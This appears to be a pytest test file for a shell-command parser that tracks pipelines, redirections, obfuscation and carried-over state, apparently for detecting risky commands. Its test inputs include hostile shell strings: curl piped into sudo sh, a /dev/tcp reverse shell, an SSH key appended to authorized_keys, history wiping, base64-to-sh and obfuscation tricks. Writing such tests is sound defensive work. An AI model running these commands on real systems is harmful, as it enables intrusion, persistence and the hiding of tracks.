"""Neighbours, redirections, ranges, flags: what a command carries besides its words."""

from __future__ import annotations

import pytest

from decnet.shell import EMPTY, Redirect, SimpleCommand, unroll


def command(text: str, program: str) -> SimpleCommand:
    return next(found for found in unroll(text).commands if found.program == program)


def test_pipeline_names_all_neighbours_the_nearest_first() -> None:
    text = "curl h | tee f | sudo sh"
    assert command(text, "curl").pipe_into == ("tee", "sh", "sudo")
    assert command(text, "sh").pipe_from == ("tee", "curl")


def test_group_shares_its_place_in_the_pipeline() -> None:
    text = "(crontab -l; echo x) | crontab -"
    assert unroll(text).commands[-1].pipe_from == ("echo", "crontab")
    assert command(text, "echo").pipe_into == ("crontab",)


def test_pipeline_before_an_alternative_keeps_its_stages() -> None:
    text = "a | b > x || { c; d; }"
    assert command(text, "a").pipe_into == ("b",)
    assert command(text, "c").pipe_from == ()


@pytest.mark.parametrize(
    "text", ["bash <(curl h)", 'sh -c "$(curl h)"', "eval $(curl h)", ". <(curl h)", "bash < <(curl h)"]
)
def test_substitution_read_by_a_shell_counts_as_a_pipe(text: str) -> None:
    fetch = command(text, "curl")
    assert fetch.pipe_into == (unroll(text).commands[-1].program,)
    assert unroll(text).commands[-1].pipe_from == ("curl",)


def test_redirections_keep_operator_descriptor_and_target() -> None:
    assert command("bash -i >& /dev/tcp/h/1 0>&1 2>>x", "bash").redirects == (
        Redirect(">&", -1, "/dev/tcp/h/1"),
        Redirect(">&", 0, "1"),
        Redirect(">>", 2, "x"),
    )


def test_written_text_and_its_file_are_both_seen() -> None:
    found = command("echo 'ssh-rsa AAAA k' >> ~/.ssh/authorized_keys", "echo")
    assert (found.args, found.redirects[0].target) == ("ssh-rsa AAAA k", "~/.ssh/authorized_keys")


def test_redirection_of_a_group_reaches_its_commands() -> None:
    assert command("{ id; w; } > /tmp/o", "id").redirects == (Redirect(">", -1, "/tmp/o"),)


def test_here_document_is_the_target_of_its_redirection() -> None:
    assert command("cat <<EOF > /x\na $HOME\nEOF", "cat").redirects[0] == Redirect("<<", -1, "a $HOME\n")


def test_truncation_without_a_program_is_seen() -> None:
    assert command("> ~/.bash_history", "").redirects == (Redirect(">", -1, "~/.bash_history"),)


def test_assignment_alone_is_seen() -> None:
    assert command("HISTFILE=/dev/null", "").assignments == (("HISTFILE", "/dev/null"),)


@pytest.mark.parametrize(
    ("text", "program", "expected"),
    [
        ("wget h; id", "id", "id"),
        ("x=1; echo $(id -u) y", "id", "id -u"),
        ("é=1; naïve | wget h", "wget", "wget h"),
        ("for i in a; do wget h; done", "wget", "wget h"),
        ("id; sh -c 'wget h'", "wget", "sh -c 'wget h'"),
        ("id; echo d2dldCBo | base64 -d | sh", "wget", "echo d2dldCBo | base64 -d | sh"),
        ("diff <(wget h) x", "wget", "wget h"),
    ],
)
def test_range_points_at_the_bytes_of_the_original(text: str, program: str, expected: str) -> None:
    found = command(text, program)
    assert text.encode()[found.start : found.end].decode() == expected


def test_depth_counts_layers() -> None:
    assert [found.depth for found in unroll("sh -c 'sh -c id'").commands] == [0, 1, 2]


def test_loop_and_background_are_marked() -> None:
    found = command("while :; do nc -z h 22; done &", "nc")
    assert (found.in_loop, found.background) == (True, True)
    assert not command("id & w", "w").background


@pytest.mark.parametrize("text", ['w""get h', "c\\at x", "cat${IFS}x", "{ls,-l}", "$'\\x69d'", "wh$@oami", "`echo id`"])
def test_disguise_is_marked(text: str) -> None:
    assert unroll(text).commands[-1].is_obfuscated


@pytest.mark.parametrize(
    "text", ["echo 'a b'", '"/bin/ls" -l', "x=1; echo $x", "\\rm -f x", "echo -e 'a\\nb'", "d=$(date); id"]
)
def test_plain_quoting_is_no_disguise(text: str) -> None:
    assert not any(found.is_obfuscated for found in unroll(text).commands)


def test_unknown_variable_and_substitution_stay_visible() -> None:
    assert command("curl $u ${v} $(date +%s)", "curl").args == "$u $v $(date +%s)"


def test_path_of_the_program_is_kept() -> None:
    assert command("/usr/bin/python3.11 x", "python").path == "/usr/bin/python3.11"


def test_variables_and_folder_reach_the_next_line() -> None:
    state = unroll("cd /tmp; x=wget", EMPTY).state
    found = unroll("cd a && $x h", state).commands[-1]
    assert (found.program, found.cwd) == ("wget", "/tmp/a")


def test_functions_reach_the_next_line() -> None:
    state = unroll("f() { wget $1; }").state
    assert unroll("f h", state).commands[-1].args == "h"


@pytest.mark.parametrize("text", ["(x=1)", "x=1 | cat", "sh -c 'x=1; cd /'", "echo $(x=1)", "id", "x=$(unknown)"])
def test_subshell_changes_nothing_outside(text: str) -> None:
    assert unroll(text).state is EMPTY or unroll(text).state == EMPTY


def test_unset_and_overwritten_variables_are_forgotten() -> None:
    state = unroll("x=1; y=2; unset x; y=$(curl h)").state
    assert state.variables == ()


def test_equal_states_have_equal_digests_and_others_do_not() -> None:
    one, same, other = unroll("x=1; cd /").state, unroll("cd /; x=1").state, unroll("x=2; cd /").state
    assert one.digest == same.digest
    assert len({EMPTY.digest, one.digest, other.digest}) == 3


def test_digest_is_the_same_in_every_process() -> None:
    assert EMPTY.digest.hex() == "58b59734ecff3128ea0ed2d1868d86c4"
